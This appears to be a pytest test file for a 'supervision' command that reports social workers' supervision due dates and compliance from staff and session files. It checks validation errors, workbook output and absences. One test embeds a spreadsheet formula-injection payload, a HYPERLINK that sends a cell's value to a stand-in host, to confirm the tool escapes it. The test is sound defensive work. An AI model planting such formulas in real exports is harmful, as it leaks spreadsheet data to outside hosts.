"""`caseload supervision`: practitioners and sessions (and absences) in, one line per
practitioner out with where they stand, or every problem by file, row and column with nothing
written."""

from __future__ import annotations

import json
from datetime import date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from caseload.cli import main
from caseload_engine import supervision
from caseload_engine import supervision_table as files
from caseload_engine.dates import add_months
from caseload_engine.tabular import Row, Table, read_table
from caseload_engine.tiering import RowErrors
from tests.engine.commands import run_installed, status_and_django_modules

ON = "2026-12-01"
PRACTITIONERS = (
    "practitioner_id,role,started,asye,name\n"
    "P1,social_worker,2026-01-31,,Aisha Khan\n"
    "P2,asye,2026-11-02,no,Sam Lee\n"  # the role implies the ASYE year, whatever the column
    "P3,social_worker,24/11/2026,yes,Ben Ode\n"
    "P4,experienced,2020-05-01,,\n"
)
# P4 had no counting session for years, then monthly from 20 Nov 2025: made up before the
# 12 months to 1 Dec 2026 began, so compliant now.
KEPT = [add_months(date(2025, 11, 20), months) for months in range(13)]
SESSIONS = (
    "practitioner_id,date,minutes\n"
    "P1,2026-10-03,90\n"
    "P1,2026-11-01,60\n"
    "P2,2026-11-09,90\n"
    "P2,2026-11-16,90\n"
    "P2,2026-11-23,120\n"
    "P2,2026-11-30,90\n"
    "P2,2026-12-02,90\n"  # after --on: left out
    + "".join(f"P4,{day.isoformat()},90\n" for day in KEPT)
)
EXPECTED = [
    {
        "practitioner_id": "P1",
        "policy": "monthly",
        "last_session": "2026-10-03",
        "next_due": "2026-11-03",
        "overdue_days": "28",
        "sessions_counted": "1",
        "sessions_too_short": "1",
        "compliant": "no",
        "reason": "overdue by 28 days: last counting session 3 Oct 2026, monthly; not compliant: "
        "2 required sessions missed in the 12 months to 1 Dec 2026",
    },
    {
        "practitioner_id": "P2",
        "policy": "asye",
        "last_session": "2026-11-30",
        "next_due": "2026-12-07",
        "overdue_days": "0",
        "sessions_counted": "4",
        "sessions_too_short": "0",
        "compliant": "yes",
        "reason": "next due 7 Dec 2026: last counting session 30 Nov 2026, weekly",
    },
    {
        "practitioner_id": "P3",
        "policy": "asye",
        "last_session": "",
        "next_due": "2026-12-01",
        "overdue_days": "0",
        "sessions_counted": "0",
        "sessions_too_short": "0",
        "compliant": "yes",
        "reason": "due today: no counting session since starting on 24 Nov 2026, weekly",
    },
    {
        "practitioner_id": "P4",
        "policy": "monthly",
        "last_session": "2026-11-20",
        "next_due": "2026-12-20",
        "overdue_days": "0",
        "sessions_counted": "13",
        "sessions_too_short": "0",
        "compliant": "yes",
        "reason": "next due 20 Dec 2026: last counting session 20 Nov 2026, monthly",
    },
]


def _files(
    tmp_path: Path, practitioners: str = PRACTITIONERS, sessions: str = SESSIONS
) -> list[str]:
    (tmp_path / "staff.csv").write_text(practitioners, encoding="utf-8")
    (tmp_path / "sessions.csv").write_text(sessions, encoding="utf-8")
    return [
        "--practitioners",
        str(tmp_path / "staff.csv"),
        "--sessions",
        str(tmp_path / "sessions.csv"),
    ]


def _table(text: str) -> Table:
    header, *lines = text.splitlines()
    columns = header.split(",")
    rows = (
        Row(number, dict(zip(columns, line.split(","), strict=True)))
        for number, line in enumerate(lines, 2)
    )
    return Table(tuple(columns), tuple(rows))


# -- reading the files -------------------------------------------------------------------------


def test_practitioners_with_their_policy() -> None:
    read = files.read_practitioners(_table(PRACTITIONERS))
    assert [(p.practitioner_id, p.role, p.started, p.asye) for p in read] == [
        ("P1", "social_worker", date(2026, 1, 31), False),
        ("P2", "asye", date(2026, 11, 2), False),
        ("P3", "social_worker", date(2026, 11, 24), True),
        ("P4", "experienced", date(2020, 5, 1), False),
    ]
    assert [p.policy.key for p in read] == ["monthly", "asye", "asye", "monthly"]


def test_only_the_required_columns_are_needed_and_headers_match_loosely() -> None:
    [practitioner] = files.read_practitioners(
        _table("Practitioner ID,ROLE,Started,Notes\nP1,Team Manager,2026-01-05,x\n")
    )
    assert (practitioner.role, practitioner.asye, practitioner.name) == (
        "team_manager",
        False,
        "",
    )
    sessions = files.read_sessions(
        _table("practitioner-id,Date,Minutes\nP1,2026-02-01,90\n"), {"P1"}
    )
    assert sessions == {"P1": [supervision.Session(date(2026, 2, 1), 90)]}


@pytest.mark.parametrize(
    ("text", "problems"),
    [
        (
            "practitioner_id,name\nP1,Ann\n",
            [
                "row 1, column \"role\": No column for role: add a column headed 'role'",
                "row 1, column \"started\": No column for started: add a column headed 'started'",
            ],
        ),
        (
            "practitioner_id,role,started,asye\n"
            "P1,wizard,2026-01-05,\n"
            "P1,asye,,maybe\n"
            ",asye,2026-13-01,\n"
            "P4,asye,1899-12-31,\n"
            "P5,asye,2200-01-01,\n"
            "P6\u202e,asye,2026-01-05,\n"
            f"{'P' * 101},asye,2026-01-05,\n",
            [
                'row 2, column "role": role must be one of assistant, asye, social_worker, '
                "experienced, advanced, occupational_therapist, team_manager, "
                "principal_social_worker, not 'wizard'",
                'row 3, column "practitioner_id": practitioner_id must be unique: it is already '
                "used in row 2, not 'P1'",
                'row 3, column "started": started is required',
                "row 3, column \"asye\": asye must be yes or no, not 'maybe'",
                'row 4, column "practitioner_id": practitioner_id is required',
                'row 4, column "started": started must be a date such as 2026-03-02 or '
                "02/03/2026, not '2026-13-01'",
                'row 5, column "started": started must be a date from 1900-01-01 to '
                "2199-12-31, not '1899-12-31'",
                'row 6, column "started": started must be a date from 1900-01-01 to '
                "2199-12-31, not '2200-01-01'",
                'row 7, column "practitioner_id": practitioner_id must not contain characters '
                "that change the direction of text, not 'P6\\u202e'",  # shown, not obeyed
                'row 8, column "practitioner_id": practitioner_id must be at most 100 '
                f"characters, not '{'P' * 101}'",
            ],
        ),
    ],
)
def test_every_bad_practitioner_cell_is_named_by_row_and_column(
    text: str, problems: list[str]
) -> None:
    with pytest.raises(RowErrors) as caught:
        files.read_practitioners(_table(text))
    assert [str(error) for error in caught.value.errors] == problems


def test_every_bad_session_cell_is_named_by_row_and_column() -> None:
    text = (
        "practitioner_id,date,minutes\n"
        "P9,2026-10-03,90\n"
        "P1,yesterday,-5\n"
        "P1,2026-10-03,0\n"
        "P1,2026-10-03,601\n"
        "P1,2026-10-03,99999999999999999999\n"
        "P1,2026-10-03,\uff19\uff10\n"  # fullwidth 90
        "P1,2026-10-03,\u0669\u0660\n"  # Arabic-Indic 90
        "P1,2026-10-03,90.5\n"
        "P1,2026-10-03,1e2\n"
        "P1,,\n"
    )
    with pytest.raises(RowErrors) as caught:
        files.read_sessions(_table(text), {"P1"})
    minutes = "minutes must be a whole number of minutes from 1 to 600"
    assert [str(error) for error in caught.value.errors] == [
        'row 2, column "practitioner_id": practitioner_id must be a practitioner_id in the '
        "practitioners file, not 'P9'",
        'row 3, column "date": date must be a date such as 2026-03-02 or 02/03/2026, not '
        "'yesterday'",
        f"row 3, column \"minutes\": {minutes}, not '-5'",
        f"row 4, column \"minutes\": {minutes}, not '0'",
        f"row 5, column \"minutes\": {minutes}, not '601'",
        f"row 6, column \"minutes\": {minutes}, not '99999999999999999999'",
        f"row 7, column \"minutes\": {minutes}, not '\uff19\uff10'",
        f"row 8, column \"minutes\": {minutes}, not '\u0669\u0660'",
        f"row 9, column \"minutes\": {minutes}, not '90.5'",
        f"row 10, column \"minutes\": {minutes}, not '1e2'",
        'row 11, column "date": date is required',
        'row 11, column "minutes": minutes is required',
    ]


def test_absences_with_and_without_an_end() -> None:
    text = (
        "practitioner_id,starts_on,ends_on\n"
        "P1,2026-11-16,2026-11-27\n"
        "P1,2026-12-10,\n"
        "P1,2026-11-16,2026-11-15\n"
        "P9,2026-11-16,\n"
    )
    with pytest.raises(RowErrors) as caught:
        files.read_absences(_table(text), {"P1"})
    assert [str(error) for error in caught.value.errors] == [
        'row 4, column "ends_on": ends_on must not be before starts_on (2026-11-16)',
        'row 5, column "practitioner_id": practitioner_id must be a practitioner_id in the '
        "practitioners file, not 'P9'",
    ]
    assert files.read_absences(_table(text.rsplit("P1,2026-11-16,2026-11-15", 1)[0]), None) == {
        "P1": [
            supervision.Absence(date(2026, 11, 16), date(2026, 11, 27)),
            supervision.Absence(date(2026, 12, 10)),
        ]
    }


# -- the command -------------------------------------------------------------------------------


def test_one_line_per_practitioner_with_a_summary(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "due.csv"
    assert main(["supervision", *_files(tmp_path), "--on", ON, "--out", str(out)]) == 0
    assert capsys.readouterr().out == (
        f"Wrote 4 practitioners into {out}, as on 1 Dec 2026: 1 overdue, 1 not compliant over "
        "the 12 months to then.\n"
    )
    table = read_table(out)
    assert table.columns == files.DUE_COLUMNS
    assert [dict(row.values) for row in table.rows] == EXPECTED


def test_the_command_gives_what_the_engine_gives(tmp_path: Path) -> None:
    # The same `standing` as the web app: the file's lines are the engine's answers.
    out = tmp_path / "due.csv"
    assert main(["supervision", *_files(tmp_path), "--on", ON, "--out", str(out)]) == 0
    practitioners = files.read_practitioners(_table(PRACTITIONERS))
    sessions = files.read_sessions(_table(SESSIONS), None)
    for practitioner, row in zip(practitioners, read_table(out).rows, strict=True):
        standing = supervision.standing(
            practitioner.policy,
            started=practitioner.started,
            sessions=sessions.get(practitioner.practitioner_id, []),
            on=date(2026, 12, 1),
        )
        assert row.values["next_due"] == (
            standing.next_due.isoformat() if standing.next_due else ""
        )
        assert row.values["reason"] == standing.reason


def test_workbooks_in_and_out(tmp_path: Path) -> None:
    staff = openpyxl.Workbook()
    staff.active.append(["practitioner_id", "role", "started"])
    staff.active.append(["P1", "social_worker", datetime(2026, 1, 31)])
    staff.active.append([7, "asye", datetime(2026, 11, 24)])
    staff.save(tmp_path / "staff.xlsx")
    sessions = openpyxl.Workbook()
    sessions.active.append(["practitioner_id", "date", "minutes"])
    sessions.active.append(["P1", datetime(2026, 10, 3), 90.0])
    sessions.active.append(["P1", datetime(2026, 11, 1), 60])
    sessions.save(tmp_path / "sessions.xlsx")
    arguments = ["--practitioners", str(tmp_path / "staff.xlsx")]
    arguments += ["--sessions", str(tmp_path / "sessions.xlsx"), "--on", ON]
    assert main(["supervision", *arguments]) == 0
    sheet = openpyxl.load_workbook(tmp_path / "staff-due.xlsx").worksheets[0]
    assert [[cell.value for cell in row][:8] for row in sheet.iter_rows()] == [
        list(files.DUE_COLUMNS[:8]),
        ["P1", "monthly", "2026-10-03", "2026-11-03", 28, 1, 1, "no"],
        ["7", "asye", None, "2026-12-01", 0, 0, 0, "yes"],
    ]


def test_absences_move_due_dates(tmp_path: Path) -> None:
    arguments = _files(
        tmp_path,
        "practitioner_id,role,started\nP1,social_worker,2026-10-01\nP2,asye,2026-10-01\n",
        "practitioner_id,date,minutes\nP1,2026-10-20,90\n",
    )
    (tmp_path / "absences.csv").write_text(
        "practitioner_id,starts_on,ends_on\nP1,2026-11-16,2026-11-27\nP2,2026-10-05,\n",
        encoding="utf-8",
    )
    out = tmp_path / "due.csv"
    arguments += ["--absences", str(tmp_path / "absences.csv"), "--out", str(out)]
    assert main(["supervision", *arguments, "--on", "2026-11-30"]) == 0
    p1, p2 = (row.values for row in read_table(out).rows)
    assert (p1["next_due"], p1["overdue_days"]) == ("2026-11-30", "0")
    assert p1["reason"] == (
        "due today: last counting session 20 Oct 2026, monthly (moved past an absence)"
    )
    assert (p2["next_due"], p2["compliant"]) == ("", "yes")
    assert p2["reason"].startswith("due on return from an absence with no end (from 5 Oct 2026)")


def test_json_for_machines_with_no_file_unless_asked(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["supervision", *_files(tmp_path), "--on", ON, "--json"]) == 0
    document = json.loads(capsys.readouterr().out)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["sessions.csv", "staff.csv"]
    assert {key: document[key] for key in document if key != "due"} == {
        "written": False,
        "out": None,
        "on": ON,
        "practitioners": 4,
        "overdue": 1,
        "not_compliant": 1,
    }
    first, _, third, _ = document["due"]
    assert first == {
        "practitioner_id": "P1",
        "policy": "monthly",
        "last_session": "2026-10-03",
        "next_due": "2026-11-03",
        "overdue_days": 28,
        "sessions_counted": 1,
        "sessions_too_short": 1,
        "compliant": False,
        "reason": EXPECTED[0]["reason"],
        "missed": ["2026-02-28", "2026-11-03"],
    }
    assert (third["last_session"], third["compliant"], third["missed"]) == (None, True, [])
    out = tmp_path / "due.xlsx"
    assert main(["supervision", *_files(tmp_path), "--on", ON, "--json", "--out", str(out)]) == 0
    document = json.loads(capsys.readouterr().out)
    assert (document["written"], document["out"]) == (True, str(out))
    assert len(read_table(out).rows) == 4


def test_the_day_is_today_in_england_unless_given(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = datetime.now(ZoneInfo("Europe/London")).date()
    assert main(["supervision", *_files(tmp_path), "--json"]) == 0
    after = datetime.now(ZoneInfo("Europe/London")).date()
    assert json.loads(capsys.readouterr().out)["on"] in {before.isoformat(), after.isoformat()}


@pytest.mark.parametrize("day", ["2026-13-01", "1/12/2026", "1899-12-31", "2200-01-01", "\uff12"])
def test_a_bad_day_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str], day: str) -> None:
    with pytest.raises(SystemExit) as exited:
        main(["supervision", *_files(tmp_path), "--on", day])
    assert exited.value.code == 2
    assert "argument --on: not a day" in capsys.readouterr().err
    assert not (tmp_path / "staff-due.csv").exists()


def test_bad_cells_in_every_file_are_listed_and_nothing_is_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    staff = "practitioner_id,role,started\nP1,wizard,2026-01-05\nP1,asye,2026-01-05\n"
    sessions = "practitioner_id,date,minutes\nP1,2026-10-03,-5\n"
    out = tmp_path / "due.csv"
    out.write_text("an earlier list\n", encoding="utf-8")
    assert main(["supervision", *_files(tmp_path, staff, sessions), "--out", str(out)]) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err.splitlines() == [
        f'{tmp_path / "staff.csv"}: row 2, column "role": role must be one of assistant, asye, '
        "social_worker, experienced, advanced, occupational_therapist, team_manager, "
        "principal_social_worker, not 'wizard'",
        f'{tmp_path / "staff.csv"}: row 3, column "practitioner_id": practitioner_id must be '
        "unique: it is already used in row 2, not 'P1'",
        f'{tmp_path / "sessions.csv"}: row 2, column "minutes": minutes must be a whole number '
        "of minutes from 1 to 600, not '-5'",
        "3 problems; nothing written.",
    ]
    assert out.read_text(encoding="utf-8") == "an earlier list\n"
    assert sorted(path.name for path in tmp_path.iterdir()) == [
        "due.csv",
        "sessions.csv",
        "staff.csv",
    ]


def test_an_unknown_practitioner_in_the_sessions(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sessions = "practitioner_id,date,minutes\nP1,2026-10-03,90\nP7,2026-10-03,90\n"
    assert main(["supervision", *_files(tmp_path, sessions=sessions), "--json"]) == 2
    assert json.loads(capsys.readouterr().out) == {
        "written": False,
        "errors": [
            {
                "file": str(tmp_path / "sessions.csv"),
                "row": 3,
                "column": "practitioner_id",
                "message": "practitioner_id must be a practitioner_id in the practitioners "
                "file, not 'P7'",
            }
        ],
    }
    assert not (tmp_path / "staff-due.csv").exists()


def test_output_problems_are_caught_before_anything_is_done(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    arguments = _files(tmp_path)
    assert main(["supervision", *arguments, "--out", str(tmp_path / "due.txt")]) == 2
    assert capsys.readouterr().err.splitlines() == [
        f"{tmp_path / 'due.txt'} is not a .csv or .xlsx file",
        "1 problem; nothing written.",
    ]
    assert main(["supervision", *arguments, "--out", str(tmp_path / "sessions.csv")]) == 2
    assert capsys.readouterr().err.splitlines() == [
        f"{tmp_path / 'sessions.csv'}: The output would overwrite an input",
        "1 problem; nothing written.",
    ]
    assert (tmp_path / "sessions.csv").read_text(encoding="utf-8") == SESSIONS


def test_ids_that_look_like_formulas_are_written_as_text(tmp_path: Path) -> None:
    attack = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
    staff = (
        f'practitioner_id,role,started\n"{attack.replace(chr(34), chr(34) * 2)}",asye,2026-11-24\n'
    )
    out = tmp_path / "due.csv"
    assert (
        main(
            [
                "supervision",
                *_files(tmp_path, staff, "practitioner_id,date,minutes\n"),
                "--on",
                ON,
                "--out",
                str(out),
            ]
        )
        == 0
    )
    assert read_table(out).rows[0].values["practitioner_id"] == "'" + attack


def test_the_installed_command_runs_without_importing_django(tmp_path: Path) -> None:
    arguments = _files(tmp_path)
    run = run_installed("supervision", *arguments, "--on", ON, "--out", tmp_path / "due.xlsx")
    assert (run.returncode, run.stderr) == (0, "")
    assert run.stdout.startswith("Wrote 4 practitioners into ")
    in_process = ["supervision", *arguments, "--on", ON, "--json"]
    assert status_and_django_modules(in_process) == "0 []"
